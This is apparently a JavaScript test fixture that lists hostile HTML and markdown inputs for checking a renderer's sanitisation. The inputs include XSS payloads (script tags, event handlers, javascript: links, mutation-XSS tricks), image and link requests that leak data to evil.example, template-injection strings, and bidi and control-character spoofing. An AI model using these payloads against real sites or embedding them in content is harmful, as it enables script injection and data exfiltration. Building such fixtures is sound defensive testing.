// What a hostile model, document or person may write. Whatever of it runs calls
// pwned(); whatever loads asks evil.example.

const run = 'pwned(1)';
const evil = 'https://evil.example';

/** Markup that runs, frames or loads where it is taken for HTML. */
export const markup = [
	`<script>${run}</script>`,
	`<script src="${evil}/a.js"></script>`,
	`<script type="module">import "${evil}/m.js"</script>`,
	`<img src=x onerror=${run}>`,
	`<img src="${evil}/leak?q=secret">`,
	`<img srcset="${evil}/1.png 1x" alt=x>`,
	`<picture><source srcset="${evil}/2.png"><img alt=x></picture>`,
	`<svg onload=${run}></svg>`,
	`<svg><script>${run}</script></svg>`,
	`<svg><animate onbegin=${run} attributeName=x dur=1s></svg>`,
	`<svg><image href="${evil}/i.svg"/></svg>`,
	`<svg><a xlink:href="javascript:${run}"><text y=20>click</text></a></svg>`,
	`<svg><foreignObject><iframe srcdoc="<script>parent.${run}</script>"></iframe></foreignObject></svg>`,
	`<math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
	`<math href="javascript:${run}">click</math>`,
	`<iframe src="javascript:${run}"></iframe>`,
	`<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
	`<iframe src="${evil}/"></iframe>`,
	`<object data="${evil}/x"></object>`,
	`<embed src="${evil}/x">`,
	`<video poster="${evil}/p.png"><source onerror=${run}></video>`,
	`<audio src="${evil}/a.mp3" onerror=${run}></audio>`,
	`<input autofocus onfocus=${run}>`,
	`<details open ontoggle=${run}>x</details>`,
	`<marquee onstart=${run}>x</marquee>`,
	`<style>@import "${evil}/s.css"; *{background:url(${evil}/b)}</style>`,
	`<div style="background:url(${evil}/c)">x</div>`,
	`<link rel=stylesheet href="${evil}/s.css">`,
	`<link rel=prefetch href="${evil}/p">`,
	`<meta http-equiv=refresh content="0;url=${evil}/">`,
	`<base href="${evil}/">`,
	`<form action="${evil}/"><input name=a><button autofocus>go</button></form>`,
	`<button formaction="javascript:${run}">x</button>`,
	`<a href="javascript:${run}">click</a>`,
	`<a href="${evil}/" ping="${evil}/ping">click</a>`,
	`<template shadowrootmode=open><script>${run}</script></template>`,
	`<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
	`<!--><img src=x onerror=${run}>-->`,
	`<x onclick=${run} onpointerenter=${run} style="position:fixed;inset:0">x</x>`,
	`<IMG SRC="jav&#x09;ascript:${run}">`,
	`<scr<script>ipt>${run}</scr</script>ipt>`,
	`"><img src=x onerror=${run}>`,
	`</textarea></title></style><script>${run}</script>`
];

/** Markdown that links, loads or hides. */
export const markdown = [
	`![x](${evil}/?leak)`,
	`![x](//evil.example/leak)`,
	`![x](data:image/svg+xml,<svg onload=${run}>)`,
	`![x](${evil}/a "onerror=${run}")`,
	`[![x](${evil}/i.png)](${evil})`,
	`![ref][r]\n\n[r]: ${evil}/ref.png`,
	`[click](javascript:${run})`,
	`[click](JaVaScRiPt:${run})`,
	`[click](java\tscript:${run})`,
	`[click](javascript&colon;${run})`,
	`[click](&#106;avascript:${run})`,
	`[click](data:text/html,<script>${run}</script>)`,
	`[click](vbscript:${run})`,
	`[click](//evil.example/x)`,
	`[click](/api/agent/keys)`,
	`[click](https://user:pass@evil.example/)`,
	`[https://example.com](https://example.com\u202e/moc.live)`,
	`[click][j]\n\n[j]: javascript:${run}`,
	`<javascript:${run}>`,
	`| a | b |\n| - | - |\n| <img src=x onerror=${run}> | ![x](${evil}/t.png) |`,
	`# <img src=x onerror=${run}>`,
	`- [x] <svg onload=${run}>`,
	`> <iframe src="${evil}/q"></iframe>`,
	`\`\`\`"><img src=x onerror=${run}>\n<script>${run}</script>\n\`\`\``,
	'```mermaid\ngraph TD; A --> B; click A "javascript:pwned(1)"\n```',
	`$$\\href{javascript:${run}}{x}\\unicode{<img src=x onerror=${run}>}$$`,
	`\u202epwned\u202c \u2066reversed\u2069 \u200f and \ufeff hidden`,
	`&lt;img src=x onerror=${run}&gt; &#60;script&#62;${run}&#60;/script&#62;`,
	`{@html '<img src=x onerror=${run}>'} {{constructor.constructor('${run}')()}} \${${run}}`,
	`\u0000\u0007\u001b[31m<img src=x onerror=${run}>`
];

/** Markup that is never closed, so that it reaches for what comes after it. */
export const unclosed = ['<a href="', '<img src="x" title="', '<!--', '<style>', '<textarea>', '<div onclick="', '```', '**', '[x](', '<svg><title>'];

/** A slide as somebody hostile would commit it: all of it in one. */
export const slide = (title) => `<section class="slide">\n<h1>${title}</h1>\n${markup.filter((m) => !/^"|^<\/|<!--|noscript|<math>|<scr</.test(m)).join('\n')}\n</section>\n`;
